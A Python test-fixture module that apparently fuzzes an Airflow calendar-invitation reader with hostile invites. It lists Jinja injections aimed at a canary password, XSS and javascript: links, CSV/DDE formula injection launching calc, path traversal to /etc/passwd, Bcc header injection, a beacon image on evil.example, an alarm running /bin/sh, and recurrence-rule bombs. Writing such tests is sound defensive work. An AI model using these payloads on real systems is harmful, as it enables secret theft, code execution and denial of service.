"""
The hostile invitations.

A case says what a stranger wrote into one invitation. What it does not name is as in any good invitation. Each
service carries of it what its format has; a case of which a service carries nothing is not run there.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

ME = "{me}"
"""Stands for the mailbox's own address."""

CANARY_CONNECTION = "corpus_canary"
"""Another connection, whose password must never be seen anywhere."""
CANARY_VARIABLE = "corpus_canary"
"""An Airflow Variable, likewise."""

FORGED = "FORGED"
"""A line of a log or table that begins so was written by a stranger."""


@dataclass(frozen=True)
class Hostile:
    """
    One hostile invitation.

    :param name: says what is hostile in it
    :param wrote: what the stranger wrote, by field:

        - texts: ``subject``, ``location``, ``description``, ``uid``, ``comment``, ``link``
        - ``categories``: a list of texts
        - ``start``, ``end``: wall times as ISO 8601, ``{day}`` being one that is looked at; ``zone``: their zone's name
        - ``rule``: of recurrence, as iCalendar writes it
        - ``organizer``: ``{"name": …, "address": …}``
        - ``attendees``: likewise, beside the mailbox itself
        - ``event_id``: what the service made of the stranger's ids

    :param json: replaces parts of an event where a service speaks JSON, by the same fields; any JSON value
    :param ics: further lines of the event in iCalendar
    :param calendar: the whole iCalendar object; ``{start}``, ``{end}``, ``{date}``, ``{next_date}`` and ``{me}`` are
        filled in
    :param only: the services that it is for; all that can carry it, if empty
    :param elsewhere: whether it lies, or may lie, outside the window that is looked at: then nothing need show it
    :param readable: whether any service's client should read it: then it is listed, and can be answered
    """

    name: str
    wrote: Mapping[str, Any] = field(default_factory=dict)
    json: Mapping[str, Any] = field(default_factory=dict)
    ics: tuple[str, ...] = ()
    calendar: str | None = None
    only: frozenset[str] = frozenset()
    readable: bool = False
    elsewhere: bool = False

    def __str__(self) -> str:
        return self.name


def _everywhere(text: str, **more: Any) -> dict[str, Any]:
    """Write a text into every field of text that a stranger controls."""
    return {
        "subject": text,
        "location": text,
        "description": text,
        "comment": text,
        "categories": [text],
        "organizer": {"name": text, "address": "mallory@evil.example"},
        "attendees": [{"name": text, "address": "bob@evil.example"}],
        **more,
    }


def _in_ids(text: str) -> dict[str, Any]:
    return {"uid": text, "event_id": text}


_JINJA = {
    "a connection's password": "Lunch {{ conn.corpus_canary.password }}",
    "a Variable": "Lunch {{ var.value.corpus_canary }}",
    "arithmetic": "Sum {{ 41999 + 2 }}",
    "a statement": "{% for each in range(3) %}41{% endfor %}",
    "an expression of the object graph": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a template that is cut off": "{{ {% %} }} {{",
    "a comment": "Lunch {# hidden #}",
    "a nested quote": '{{ "{{ conn.corpus_canary.password }}" }}',
    "an endless expression": "{{ range(10**9)|list|length }} {{ 'x' * 10**9 }}",
}
"""What a template engine makes of them is told from what was written: by a canary, or by one of ``RENDERED``."""

RENDERED = ("42001", "414141", "<class '")
"""What is seen where a template of a stranger's was rendered, and nowhere else."""

_CONTROLS = {
    "ESC sequences": "Lunch\x1b[2J\x1b[31m\x1b]0;owned\x07",
    "backspaces": "Pay Mallory\b\b\b\b\b\b\b\b\b\b\bCoffee",
    "NUL": "Lunch\x00 and after",
    "C1 controls": "Lunch\x9b31m\x85\x90",
    "carriage return": f"Lunch\r{FORGED} line",
    "a forged line": f"Lunch\n{FORGED} 2 replies: 2 replied.\r\n{FORGED} again",
    "line and paragraph separators": f"Lunch\u2028{FORGED}\u2029{FORGED}",
    "vertical tab and form feed": "Lunch\x0b\x0cand after",
    "bidirectional marks": "Lunch \u202egnp.exe\u202c \u2066isolated\u2069 \u061c\u200f",
    "zero-width characters": "Lu\u200bn\ufeffch\u2060 \U000e0041\U000e007f",
    "a lone surrogate": "Lunch \ud800 and \udfff",
    "noncharacters": "Lunch \ufffe\uffff \U0001ffff",
    "combining marks": "Lunch" + "\u0315" * 500,
}

_MARKUP = {
    "an image of Markdown": "![x](https://evil.example/beacon.png)",
    "a link of Markdown": "[Approve all](https://evil.example/login)",
    "a bare address": "https://evil.example/login www.evil.example <https://evil.example>",
    "a table of Markdown": "Lunch | accepted | [x](https://evil.example)\n| --- | --- |\n| a | b |",
    "a reference of Markdown": "[x]: https://evil.example\n[x]",
    "HTML": "<img src=https://evil.example/x onerror=alert(1)><script>alert(1)</script>",
    "HTML entities": "&lt;script&gt;&#60;script&#62; &#x202e; &#124;",
    "code of Markdown": "```\n</code></pre><script>alert(1)</script>\n```",
    "a backslash at the end": "Lunch \\",
    "backticks": "``` `` ` |",
    "tags of log markup": "[bold red]Lunch[/] ::group::x ::endgroup::",
}

_FORMULAS = {
    "a formula": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "a formula after a semicolon": "Lunch;=1+1",
    "a formula after a tab": "Lunch\t=1+1",
    "a formula after a line end": "\n=1+1",
    "a formula after a space": " =1+1",
    "a formula after a no-break space": "\u00a0=1+1",
    "a formula after a byte order mark": "\ufeff=1+1",
    "a full-width sign": "＝1+1 ；＋1",
    "a plus, a minus, an at": "+1+1;-1+1;@SUM(1)",
    "a quote and a formula": '"",=1+1,"',
    "a quote that opens": '\'";=1+1;"',
    "a DDE call": "@SUM(1+1)*cmd|' /C calc'!A0",
}

TEXTS = (
    *(Hostile(f"Jinja: {name}", _everywhere(text), readable=True) for name, text in _JINJA.items()),
    *(Hostile(f"text: {name}", _everywhere(text), readable=True) for name, text in _CONTROLS.items()),
    *(Hostile(f"markup: {name}", _everywhere(text), readable=True) for name, text in _MARKUP.items()),
    *(Hostile(f"CSV: {name}", _everywhere(text), readable=True) for name, text in _FORMULAS.items()),
    Hostile("text: 40 KB", _everywhere("Lunch " + "a" * 40_000), readable=True),
    Hostile("text: 40 KB for a regular expression", _everywhere("team " * 8_000), readable=True),
    Hostile("text: 1.3 MB", {"subject": "b" * 1_300_000, "description": " \t" * 650_000}, readable=True),
    Hostile("text: white space alone", _everywhere(" \t\n\u00a0 " * 100), readable=True),
    Hostile("text: empty", _everywhere(""), readable=True),
)
"""What may stand in every field of text."""

IDS = (
    Hostile("id: Jinja", _in_ids("{{conn.corpus_canary.password}}{{41999+2}}")),
    Hostile("id: a path that climbs", _in_ids("../../../me/messages")),
    Hostile("id: two dots", _in_ids("..")),
    Hostile("id: an encoded path", _in_ids("..%2f..%2f%2e%2e/x?y=z#f")),
    Hostile("id: another host", _in_ids("https://evil.example/x")),
    Hostile("id: a space", _in_ids("lunch with a space@evil.example")),
    Hostile("id: 1,100 characters", _in_ids("u" * 1_100)),
    Hostile("id: NUL", _in_ids("lunch\x00@evil.example")),
    Hostile("id: a line end", _in_ids(f"lunch\n{FORGED}: x\r\nX-Injected: 1")),
    Hostile("id: ESC", _in_ids("lunch\x1b[2J")),
    Hostile("id: C1 controls and bidirectional marks", _in_ids("lunch\x9b\u202e@evil.example")),
    Hostile("id: a lone surrogate", _in_ids("lunch\ud800")),
    Hostile("id: a quote for a filter", _in_ids("x' or '1'='1")),
    Hostile("id: a formula", _in_ids("=1+1;=cmd|x")),
    Hostile("id: markup", _in_ids("![x](https://evil.example/x)|<img/src=x>")),
    Hostile("id: empty", _in_ids("")),
    Hostile("id: UID as number", json={"uid": 7}),
    Hostile("id: UID as list", json={"uid": ["a", {}]}),
    Hostile("id: event id as number", json={"event_id": 7}),
    Hostile("id: event id as null", json={"event_id": None}),
    Hostile("id: event id as object", json={"event_id": {"a": "b"}}),
)

TIMES = (
    Hostile("time: unknown zone", {"zone": "Mars/Olympus_Mons"}),
    Hostile("time: Customized Time Zone", {"zone": "Customized Time Zone"}),
    Hostile("time: zone is a path", {"zone": "../../../../etc/passwd"}),
    Hostile("time: zone is an absolute path", {"zone": "/etc/passwd"}),
    Hostile("time: zone is Jinja", {"zone": "{{ conn.corpus_canary.password }}"}),
    Hostile("time: zone is empty", {"zone": ""}),
    Hostile("time: zone with NUL", {"zone": "Europe/\x00Berlin"}),
    Hostile("time: zone of 100 KB", {"zone": "E" * 100_000}),
    Hostile("time: zone is a directory", {"zone": "Europe"}),
    Hostile("time: end before start", {"start": "{day}T10:00:00", "end": "{day}T09:00:00"}),
    Hostile("time: no length", {"start": "{day}T10:00:00", "end": "{day}T10:00:00"}),
    Hostile("time: year 1", {"start": "0001-01-01T00:00:00", "end": "0001-01-01T01:00:00"}, elsewhere=True),
    Hostile(
        "time: year 9999", {"start": "9999-12-31T23:00:00", "end": "9999-12-31T23:59:59"}, elsewhere=True
    ),
    Hostile("time: from year 1 to 9999", {"start": "0001-01-01T00:00:00", "end": "9999-12-31T23:59:59"}),
    Hostile(
        "time: year 1 east of Greenwich",
        {"start": "0001-01-01T00:00:00", "end": "0001-01-01T01:00:00", "zone": "Asia/Tokyo"},
        elsewhere=True,
    ),
    Hostile(
        "time: year 9999 west of Greenwich",
        {"start": "9999-12-31T23:00:00", "end": "9999-12-31T23:59:59", "zone": "America/Los_Angeles"},
        elsewhere=True,
    ),
    Hostile(
        "time: in the gap of a clock change",
        {"start": "2040-03-25T02:30:00", "end": "2040-03-25T02:45:00", "zone": "Europe/Berlin"},
        elsewhere=True,
    ),
    Hostile("time: garbage", {"start": "yesterday", "end": "tomorrow {{ 41999 + 2 }}"}),
    Hostile("time: garbage with ESC", {"start": "\x1b[2J2040", "end": "\u202e2041"}),
    Hostile("time: month 13", {"start": "2040-13-45T25:61:61", "end": "2040-13-45T26:61:61"}),
    Hostile("time: start as null", json={"start": None}),
    Hostile("time: start as number", json={"start": 7}),
    Hostile("time: start as list", json={"start": []}),
    Hostile("time: end as true", json={"end": True}),
    Hostile("time: huge number", json={"start": 10**30, "end": 10**30}),
    Hostile("time: not a number", json={"start": float("nan"), "end": float("inf")}),
    Hostile("time: zone as list", json={"zone": ["UTC"]}),
    Hostile("time: zone as number", json={"zone": 7}),
)

PEOPLE = (
    Hostile("people: no organizer", {"organizer": None}),
    Hostile("people: organizer without address", {"organizer": {"name": "Mallory", "address": ""}}),
    Hostile(
        "people: organizer is garbage",
        {"organizer": {"name": "", "address": "mailto:@@@;javascript:alert(1)"}},
    ),
    Hostile("people: organizer is me in capitals", {"organizer": {"name": "Me", "address": "{ME}"}}),
    Hostile(
        "people: organizer with line ends",
        {"organizer": {"name": "M\r\nBcc: all@evil.example", "address": "m\r\nBcc: all@evil.example"}},
    ),
    Hostile(
        "people: organizer looks like me", {"organizer": {"name": ME, "address": "mallory@evil.example"}}
    ),
    Hostile(
        "people: 2,000 attendees",
        {"attendees": [{"name": f"Guest {n}", "address": f"guest{n}@evil.example"} for n in range(2_000)]},
        readable=True,
    ),
    Hostile("people: me twice", {"attendees": [{"name": "Me", "address": ME}]}),
    Hostile("people: me twice, in capitals", {"attendees": [{"name": "Me", "address": "{ME}"}]}),
    Hostile(
        "people: names of 20 KB",
        {"attendees": [{"name": "n" * 20_000, "address": "a" * 20_000 + "@evil.example"}] * 5},
        readable=True,
    ),
    Hostile("people: organizer as text", json={"organizer": "mallory@evil.example"}),
    Hostile("people: organizer as list", json={"organizer": ["mallory@evil.example"]}),
    Hostile("people: organizer as number", json={"organizer": 7}),
    Hostile("people: names as numbers", json={"organizer": {"name": 7, "address": ["x"]}}),
    Hostile("people: attendees as null", json={"attendees": None}),
    Hostile("people: attendees as text", json={"attendees": "everybody"}),
    Hostile("people: attendees as object", json={"attendees": {"0": "me"}}),
    Hostile("people: attendees of wrong types", json={"attendees": [None, 7, "x", [], {}]}),
)

TYPES = (
    Hostile("type: subject as null", json={"subject": None}),
    Hostile("type: subject as number", json={"subject": 7}),
    Hostile("type: subject as list", json={"subject": ["{{ 41999 + 2 }}"]}),
    Hostile("type: subject as object", json={"subject": {"toString": "x"}}),
    Hostile("type: description as number", json={"description": 7}),
    Hostile("type: location as list", json={"location": [7]}),
    Hostile("type: categories as text", json={"categories": "abc"}),
    Hostile("type: categories of wrong types", json={"categories": [None, 7, {}, ["x"]]}),
    Hostile("type: categories as number", json={"categories": 7}),
    Hostile("type: link as number", json={"link": 7}),
    Hostile("type: rule as text", json={"rule": "FREQ=DAILY"}),
    Hostile("type: rule as number", json={"rule": 7}),
    Hostile("type: status as object", json={"status": {"a": 1}}),
    Hostile("type: status as list", json={"status": ["accepted"]}),
    Hostile("type: status as null", json={"status": None}),
    Hostile("type: status is unknown", json={"status": "perhaps\x1b[2J"}),
)

LINKS = (
    Hostile("link: another host", {"link": "https://evil.example/login?airflow"}, readable=True),
    Hostile("link: a script", {"link": "javascript:alert(1)"}, readable=True),
    Hostile("link: data", {"link": "data:text/html,<script>alert(1)</script>"}, readable=True),
    Hostile(
        "link: a user that looks like the host", {"link": "https://127.0.0.1@evil.example/"}, readable=True
    ),
    Hostile(
        "link: a host that begins like ours",
        {"link": "https://outlook.office365.com.evil.example/"},
        readable=True,
    ),
    Hostile("link: ESC", {"link": "https://evil.example/\x1b[2J"}, readable=True),
)

_CALDAV = frozenset({"caldav"})


def _rule(name: str, *lines: str, **wrote: Any) -> Hostile:
    # Of a rule that is nonsense nobody can say whether it has an instance in the window.
    return Hostile(f"rule: {name}", wrote, ics=lines, only=_CALDAV, elsewhere=True)


_MINUTES = ",".join(map(str, range(60)))
_HOURS = ",".join(map(str, range(24)))

RULES = (
    _rule(
        "30 February",
        "RRULE:FREQ=DAILY;BYMONTH=2;BYMONTHDAY=30",
        start="1970-01-01T10:00:00",
        end="1970-01-01T11:00:00",
    ),
    _rule(
        "every second since 1970",
        f"RRULE:FREQ=DAILY;BYHOUR={_HOURS};BYMINUTE={_MINUTES};BYSECOND={_MINUTES}",
        start="1970-01-01T00:00:00",
        end="1970-01-01T00:00:01",
    ),
    _rule("secondly", "RRULE:FREQ=SECONDLY", start="1970-01-01T00:00:00", end="1970-01-01T00:00:01"),
    _rule("secondly, never", "RRULE:FREQ=SECONDLY;BYMONTH=2;BYMONTHDAY=30"),
    _rule("minutely, never on a week day", "RRULE:FREQ=MINUTELY;BYDAY=MO;BYMONTHDAY=31;BYMONTH=2"),
    _rule("yearly, a week that is none", "RRULE:FREQ=YEARLY;BYWEEKNO=60,-60;BYDAY=MO"),
    _rule("a huge interval", "RRULE:FREQ=YEARLY;INTERVAL=99999999999999999999"),
    _rule("an interval of nothing", "RRULE:FREQ=DAILY;INTERVAL=0"),
    _rule("a negative interval", "RRULE:FREQ=DAILY;INTERVAL=-1"),
    _rule("a huge count", "RRULE:FREQ=DAILY;COUNT=99999999999"),
    _rule("until before the start", "RRULE:FREQ=DAILY;UNTIL=19000101T000000Z"),
    _rule("until of another type", "RRULE:FREQ=DAILY;UNTIL=20400101"),
    _rule("since year 1", "RRULE:FREQ=DAILY", start="0001-01-01T10:00:00", end="0001-01-01T11:00:00"),
    _rule("garbage", "RRULE:FREQ=SOMETIMES;{{ 41999 + 2 }}\x1b[2J"),
    _rule("twice", "RRULE:FREQ=DAILY", "RRULE:FREQ=SECONDLY"),
    _rule(
        "nested lists",
        "RRULE:FREQ=YEARLY;BYYEARDAY="
        + ",".join(map(str, range(1, 367)))
        + f";BYHOUR={_HOURS};BYMINUTE={_MINUTES};BYSETPOS=-1",
    ),
    _rule("by set position of nothing", "RRULE:FREQ=MONTHLY;BYMONTHDAY=31;BYMONTH=2;BYSETPOS=1"),
    _rule("Easter", "RRULE:FREQ=YEARLY;BYEASTER=0"),
    _rule(
        "20,000 dates",
        "RDATE:"
        + ",".join(f"2041{1 + n % 12:02}{1 + n % 28:02}T{n % 24:02}{n % 60:02}00Z" for n in range(20_000)),
    ),
    _rule(
        "20,000 exceptions",
        "RRULE:FREQ=DAILY",
        *(f"EXDATE:2041{1 + n % 12:02}{1 + n % 28:02}T{n % 24:02}{n % 60:02}00Z" for n in range(20_000)),
    ),
    _rule(
        "daily with 2,000 attendees",
        "RRULE:FREQ=HOURLY",
        start="2020-01-01T00:00:00",
        end="2020-01-01T00:30:00",
        attendees=[{"name": f"Guest {n}", "address": f"guest{n}@evil.example"} for n in range(2_000)],
    ),
    _rule("a negative duration", "DURATION:-PT5H", end=None),
    _rule("a huge duration", "DURATION:P99999999999W", end=None),
    _rule("garbage as a duration", "DURATION:forever", end=None),
    _rule(
        "days that last 100 years",
        "RRULE:FREQ=DAILY",
        "DURATION:P36500D",
        end=None,
        start="1990-01-01T00:00:00",
    ),
    _rule("no start", start=None),
    _rule("no end", end=None),
)
"""What only iCalendar lets a stranger write."""


def _object(name: str, *lines: str, elsewhere: bool = False) -> Hostile:
    calendar = "\r\n".join(lines) + "\r\n"
    return Hostile(f"object: {name}", calendar=calendar, only=_CALDAV, elsewhere=elsewhere)


_HEAD = ("BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//evil//EN")
_EVENT = (
    "UID:hostile@evil.example",
    "DTSTAMP:20260101T000000Z",
    "DTSTART:{start}",
    "DTEND:{end}",
    "SUMMARY:Lunch",
    "ORGANIZER:mailto:mallory@evil.example",
    "ATTENDEE;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:{me}",
)


def _whole(*lines: str) -> tuple[str, ...]:
    return (*_HEAD, *lines, "END:VCALENDAR")


def _event(*more: str) -> tuple[str, ...]:
    return ("BEGIN:VEVENT", *_EVENT, *more, "END:VEVENT")


def _without(name: str, *more: str) -> tuple[str, ...]:
    return ("BEGIN:VEVENT", *(each for each in _EVENT if not each.startswith(name)), *more, "END:VEVENT")


OBJECTS = (
    _object("empty", "", elsewhere=True),
    _object("not iCalendar", "<html><body>Not a calendar {{ 41999 + 2 }}</body></html>"),
    _object("no event", *_whole(), elsewhere=True),
    _object("cut off", *_HEAD, "BEGIN:VEVENT", *_EVENT),
    _object("never ends", *_HEAD, *("BEGIN:VEVENT",) * 2_000, *_EVENT),
    _object(
        "1,500 overrides",
        *_whole(
            *_event("RRULE:FREQ=DAILY"),
            *(
                line
                for n in range(1_500)
                for line in _event(
                    f"RECURRENCE-ID:20{30 + n // 336}{1 + n // 28 % 12:02}{1 + n % 28:02}T100000Z"
                )
            ),
        ),
    ),
    _object(
        "the same override 500 times",
        *_whole(*_event("RRULE:FREQ=DAILY"), *_event("RECURRENCE-ID:{next_date}T100000Z") * 500),
    ),
    _object(
        "an override of garbage", *_whole(*_event("RRULE:FREQ=DAILY"), *_event("RECURRENCE-ID:tomorrow"))
    ),
    _object(
        "folded into 100,000 lines",
        *_whole(*_event("DESCRIPTION:" + "\r\n ".join("ab" for _ in range(100_000)))),
    ),
    _object("100,000 lines", *_whole(*_event(*("X-A:b",) * 100_000))),
    _object("a line of 5,000 parameters", *_whole(*_event("X-A" + ";P=v" * 5_000 + ":b"))),
    _object("quotes that never end", *_whole(*_event('ATTENDEE;CN="Mallory:mailto:mallory@evil.example'))),
    _object(
        "a zone without rules",
        *_whole(
            "BEGIN:VTIMEZONE",
            "TZID:Empty",
            "END:VTIMEZONE",
            *_without("DT", "DTSTART;TZID=Empty:{date}T100000", "DTEND;TZID=Empty:{date}T110000"),
        ),
    ),
    _object(
        "a zone that is garbage",
        *_whole(
            "BEGIN:VTIMEZONE",
            "TZID:Odd",
            "BEGIN:STANDARD",
            "DTSTART:garbage",
            "TZOFFSETFROM:+9999",
            "TZOFFSETTO:x",
            "RRULE:FREQ=SECONDLY",
            "END:STANDARD",
            "END:VTIMEZONE",
            *_without("DT", "DTSTART;TZID=Odd:{date}T100000", "DTEND;TZID=Odd:{date}T110000"),
        ),
    ),
    _object(
        "a zone that is a rule bomb",
        *_whole(
            "BEGIN:VTIMEZONE",
            "TZID:Bomb",
            "BEGIN:STANDARD",
            "DTSTART:00010101T000000",
            "TZOFFSETFROM:+0000",
            "TZOFFSETTO:+0100",
            "RRULE:FREQ=SECONDLY;BYMONTH=2;BYMONTHDAY=30",
            "END:STANDARD",
            "END:VTIMEZONE",
            *_without("DT", "DTSTART;TZID=Bomb:{date}T100000", "DTEND;TZID=Bomb:{date}T110000"),
        ),
    ),
    _object(
        "a date as start and a time as end",
        *_whole(*_without("DT", "DTSTART;VALUE=DATE:{date}", "DTEND:{date}T110000Z")),
    ),
    _object(
        "a time as start and a date as end",
        *_whole(*_without("DT", "DTSTART:{date}T100000Z", "DTEND;VALUE=DATE:{next_date}")),
    ),
    _object("two starts", *_whole(*_event("DTSTART:20410102T100000Z"))),
    _object("two UIDs", *_whole(*_event("UID:another@evil.example"))),
    _object("no UID", *_whole(*_without("UID"))),
    _object("two events with other UIDs", *_whole(*_event(), *_without("UID", "UID:another@evil.example"))),
    _object(
        "X-AIRFLOW-RSVP on my line",
        *_whole(
            *_without(
                "ATTENDEE",
                "ATTENDEE;PARTSTAT=NEEDS-ACTION;X-AIRFLOW-RSVP=sending-accepted-0123456789abcdef0123456789abcdef-00000000"
                ":mailto:{me}",
            )
        ),
    ),
    _object(
        "my line claims another status",
        *_whole(*_without("ATTENDEE", "ATTENDEE;PARTSTAT=EVIL\x1b:mailto:{me}")),
    ),
    _object("me with 500 lines", *_whole(*_event(*("ATTENDEE;PARTSTAT=DECLINED:mailto:{me}",) * 500))),
    _object(
        "an alarm that runs a program",
        *_whole(
            *_event(
                "BEGIN:VALARM", "ACTION:PROCEDURE", "TRIGGER:-PT5M", "ATTACH:file:///bin/sh", "END:VALARM"
            )
        ),
    ),
    _object(
        "an attachment of a file", *_whole(*_event("ATTACH:file:///etc/passwd", "URL:file:///etc/passwd"))
    ),
    _object("it claims to be cancelled by the METHOD", *_HEAD, "METHOD:CANCEL", *_event(), "END:VCALENDAR"),
    _object("a nested calendar", *_whole(*_HEAD, *_event(), "END:VCALENDAR")),
    _object("a raw control character", *_whole(*_event("LOCATION:a\x01\x02b"))),
    _object("markup of XML", *_whole(*_event("LOCATION:]]></C:calendar-data><evil/>"))),
    _object("encodings", *_whole(*_event("LOCATION:\ud800\udfff"))),
)
"""Whole objects that only CalDAV carries; ``{start}`` and ``{end}`` are as in any good invitation."""

INVITATIONS: tuple[Hostile, ...] = (*TEXTS, *IDS, *TIMES, *PEOPLE, *TYPES, *LINKS, *RULES, *OBJECTS)
